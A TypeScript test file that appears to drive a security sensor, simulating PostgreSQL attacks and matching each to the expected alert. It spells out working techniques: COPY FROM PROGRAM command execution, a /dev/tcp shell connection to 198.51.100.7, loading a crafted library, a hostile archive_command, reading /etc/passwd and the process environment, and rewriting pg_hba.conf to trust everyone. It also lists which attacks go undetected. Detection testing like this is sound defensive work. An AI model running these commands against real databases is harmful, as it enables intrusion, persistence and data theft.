import { appendFileSync, chmodSync, copyFileSync } from 'node:fs';
import type { Box } from '../support/box.ts';
import { hijack } from '../support/hijack.ts';
import type { Attack } from '../support/service.ts';

const by = /^\/usr\/lib\/postgresql\/15\/bin\/postgres$/;
const command = (sql: string): readonly string[] => ['psql', '-h', '127.0.0.1', '-U', 'postgres', '-qAt', '-c', sql];
/** By somebody who may do anything in the database; a refusal by the database is no failure of ours. */
const sql = async (box: Box, text: string): Promise<void> => {
  await box.host(['sh', '-c', '"$@" >/dev/null 2>&1 || true', 'sh', ...command(text)]);
};
const run = (box: Box, shell: string): Promise<void> =>
  sql(box, `CREATE TEMP TABLE o (t text); COPY o FROM PROGRAM '${shell}'`);

export const attacks: readonly Attack[] = [
  {
    name: 'COPY FROM PROGRAM',
    kind: 'loud',
    act: (box) => run(box, 'id'),
    told: /^process-other-\S+ \/usr\/bin\/dash sh -c id/,
    by,
  },
  {
    name: 'a binary is dropped and run',
    kind: 'loud',
    act: (box) => run(box, 'cp /bin/true /tmp/kinsing; /tmp/kinsing; true'),
    told: /^process-not-in-profile \/tmp\/kinsing/,
    by,
  },
  {
    name: 'a shell opens a connection',
    kind: 'loud',
    act: (box) => run(box, 'bash -c "echo x > /dev/tcp/198.51.100.7/443"; true'),
    told: /^connection-\S+ tcp 198\.51\.100\.7:443/,
    by,
  },
  {
    name: 'a library is exported and loaded',
    kind: 'loud',
    act: async (box) => {
      const library = box.path('/tmp/pg_exec.so');
      copyFileSync(box.path('/usr/lib/postgresql/15/lib/pgcrypto.so'), library);
      appendFileSync(library, 'x');
      chmodSync(library, 0o755);
      await sql(box, "CREATE FUNCTION x() RETURNS int AS '/tmp/pg_exec.so', 'pg_digest' LANGUAGE C");
    },
    told: /\/tmp\/pg_exec\.so/,
    by,
  },
  {
    name: 'a subscription to another host',
    kind: 'loud',
    act: (box) =>
      sql(box, "CREATE SUBSCRIPTION s CONNECTION 'host=198.51.100.8 dbname=x connect_timeout=1' PUBLICATION p"),
    told: /^connection-\S+ tcp 198\.51\.100\.8:5432/,
    by,
  },
  {
    name: 'rows are written to the home directory',
    kind: 'loud',
    act: (box) => sql(box, "COPY (SELECT 'id') TO '/var/lib/postgresql/.bashrc'"),
    told: /^file-not-in-profile \/var\/lib\/postgresql\/\.bashrc/,
    by,
  },
  {
    name: 'a large object is exported elsewhere',
    kind: 'loud',
    act: (box) => sql(box, "SELECT lo_from_bytea(4242, 'x'); SELECT lo_export(4242, '/var/tmp/payload')"),
    told: /^file-not-in-profile \/var\/tmp\/payload/,
    by,
  },
  {
    name: 'a back end listens',
    kind: 'loud',
    act: (box) => hijack(box, box.pid, 'bind', '31337'),
    told: /^listen-not-in-profile tcp port 31337/,
    by,
  },
  {
    name: 'an archive command is set',
    kind: 'loud',
    act: async (box) => {
      await sql(box, "ALTER SYSTEM SET archive_command = 'id > /tmp/out'");
      await sql(box, 'ALTER SYSTEM SET archive_mode = on');
      await box.restart('SIGINT');
      await box.host(['sh', '-c', 'until pg_isready -qh 127.0.0.1; do sleep 0.2; done']);
      await sql(box, 'CREATE TABLE w (t text)');
      await sql(box, 'SELECT pg_switch_wal()');
      await new Promise((done) => setTimeout(done, 1500));
    },
    told: /^process-other-\S+ \/usr\/bin\/dash sh -c id > \/tmp\/out/,
    by,
  },
  {
    name: 'a file of the system is read',
    kind: 'quiet',
    act: (box) => sql(box, "SELECT pg_read_file('/etc/debian_version')"),
    told: /^file-not-in-profile \/etc\/debian_version/,
    by,
  },
  {
    name: 'user names are read',
    kind: 'quiet',
    act: (box) => sql(box, "SELECT pg_read_file('/etc/passwd')"),
    told: /\/etc\/passwd/,
    by,
    missed: 'the C library reads it in every service that asks for a user',
  },
  {
    name: 'the environment is read',
    kind: 'quiet',
    act: (box) => sql(box, "SELECT pg_read_file('/proc/self/environ')"),
    told: /^\S+ \S*environ/,
    by,
    missed: 'what is read below /proc is not shown by the sensor',
  },
  {
    name: 'directories are listed',
    kind: 'quiet',
    act: (box) => sql(box, "SELECT pg_ls_dir('/root'), pg_ls_dir('/etc')"),
    told: /^\S+ \S*ls_dir/,
    by,
    missed: 'listing a directory opens no file',
  },
  {
    name: 'rows are written into its own directory',
    kind: 'quiet',
    act: (box) => sql(box, "COPY (SELECT 'x') TO '/var/lib/postgresql/data/loot'"),
    told: /^\S+ \S*loot/,
    by,
    missed: 'it writes its data there, under any name',
  },
  {
    name: 'access is opened to anybody',
    kind: 'quiet',
    act: (box) => sql(box, "COPY (SELECT 'host all all all trust') TO '/var/lib/postgresql/data/pg_hba.conf'"),
    told: /^\S+ \S*pg_hba/,
    by,
    missed: 'this configuration lies among its data, where it writes under any name',
  },
  {
    name: 'all tables are dumped',
    kind: 'quiet',
    act: (box) => box.host(['pg_dump', '-h', '127.0.0.1', '-U', 'postgres', '-f', '/dev/null']),
    told: /^\S+ \S*dump/,
    by,
    missed: 'who connects, and what is asked, is not judged',
  },
  {
    name: 'a library of the image is preloaded',
    kind: 'quiet',
    act: (box) => sql(box, "LOAD 'dblink'"),
    told: /^\S+ \S*dblink/,
    by,
    missed: 'extensions of the image may be loaded when they are first needed',
  },
];
